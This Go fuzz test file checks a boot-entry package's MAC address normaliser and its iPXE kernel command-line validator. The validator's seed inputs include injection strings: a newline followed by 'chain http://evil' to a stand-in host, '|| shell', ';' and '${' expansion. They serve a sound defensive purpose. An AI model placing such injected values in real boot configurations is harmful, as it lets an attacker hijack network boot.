package bootentry_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/landscaper-nix/landscaper/formats/bootentry"
)

var normalMAC = regexp.MustCompile(`^[0-9a-f]{2}(:[0-9a-f]{2}){5}$`)

// hexOf keeps the hex digits of s, lowercased.
func hexOf(s string) string {
	var b strings.Builder
	for _, r := range strings.ToLower(s) {
		if ('0' <= r && r <= '9') || ('a' <= r && r <= 'f') {
			b.WriteRune(r)
		}
	}
	return b.String()
}

// FuzzNormalizeMAC: NormalizeMAC never panics, and what it accepts comes
// out as six lowercase colon-separated bytes that normalise to themselves
// and are the input's own hex digits (after pxelinux's "01-" prefix, if
// any): a MAC is never made up. The seeds are below and in
// testdata/fuzz/FuzzNormalizeMAC.
func FuzzNormalizeMAC(f *testing.F) {
	for _, s := range []string{
		"52:54:00:12:34:56", "52-54-00-12-34-56", "5254.0012.3456", "525400123456",
		"01-52-54-00-12-34-56", " AA:BB:CC:DD:EE:FF\n", "00:00:5e:00:53:01:02:03",
		"02:00:5e:10:00:00:00:01:02:03:04:05:06:07:08:09:0a:0b:0c:0d",
		"01-5254001234", "1:2:3:4:5:6", "g2:54:00:12:34:56", "",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, err := bootentry.NormalizeMAC(s)
		if err != nil {
			if got != "" {
				t.Fatalf("NormalizeMAC(%q) = %q with error %v", s, got, err)
			}
			return
		}
		if !normalMAC.MatchString(got) {
			t.Fatalf("NormalizeMAC(%q) = %q, not six lowercase colon-separated bytes", s, got)
		}
		if in, out := hexOf(s), hexOf(got); in != out && in != "01"+out {
			t.Fatalf("NormalizeMAC(%q) = %q: not the input's hex digits", s, got)
		}
		again, err := bootentry.NormalizeMAC(got)
		if err != nil || again != got {
			t.Fatalf("NormalizeMAC(%q) = %q, but NormalizeMAC(%q) = %q, %v", s, got, got, again, err)
		}
		// The file-name form normalises back to the same MAC too.
		if back, err := bootentry.NormalizeMAC(bootentry.FileName(got)); err != nil || back != got {
			t.Fatalf("NormalizeMAC(FileName(%q)) = %q, %v", got, back, err)
		}
	})
}

// ipxeWords splits a line the way iPXE does: on ASCII whitespace only.
func ipxeWords(s string) []string {
	return strings.FieldsFunc(s, func(r rune) bool {
		return r == ' ' || r == '\t' || r == '\n' || r == '\v' || r == '\f' || r == '\r'
	})
}

// FuzzCheckCmdline: whatever CheckCmdline accepts holds no control
// character, no ${ (settings expansion), and no word that iPXE reads as a
// command separator or a comment. The seeds are below and in
// testdata/fuzz/FuzzCheckCmdline.
func FuzzCheckCmdline(f *testing.F) {
	for _, s := range []string{
		"console=ttyS0,115200 init=/nix/store/abc-nixos-system/init loglevel=4",
		"", "a\nchain http://evil", "a ${net0/mac}", "a $${x}", "a || shell", "a && b", "a ; b",
		"a;b", "a #c", "a\u00a0;\u00a0b", "a\x7f", "a\tb", "$ {x}", "a\u2028b",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if bootentry.CheckCmdline(s) != nil {
			return
		}
		for i := 0; i < len(s); i++ {
			if s[i] < 0x20 || s[i] == 0x7f {
				t.Fatalf("CheckCmdline accepted %q with control byte %#x at %d", s, s[i], i)
			}
		}
		if strings.Contains(s, "${") {
			t.Fatalf("CheckCmdline accepted %q holding ${", s)
		}
		for _, w := range ipxeWords(s) {
			if w == "||" || w == "&&" || w == ";" || strings.HasPrefix(w, "#") {
				t.Fatalf("CheckCmdline accepted %q holding the iPXE word %q", s, w)
			}
		}
	})
}
